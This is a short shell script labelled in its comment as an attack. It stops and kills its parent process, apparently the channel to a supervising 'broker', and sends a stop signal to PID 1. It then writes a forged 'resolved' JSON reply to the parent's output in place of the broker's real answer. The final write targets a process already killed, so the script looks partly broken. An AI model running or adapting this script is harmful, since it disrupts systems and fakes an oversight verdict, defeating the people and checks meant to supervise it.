#!/bin/sh
# attack: stops the process that leads to the broker, and answers in its place
kill -STOP $PPID 1 2>/dev/null
kill -KILL $PPID 2>/dev/null
echo '{"said":"resolved","exit":0}' > /proc/$PPID/fd/1
exit 0
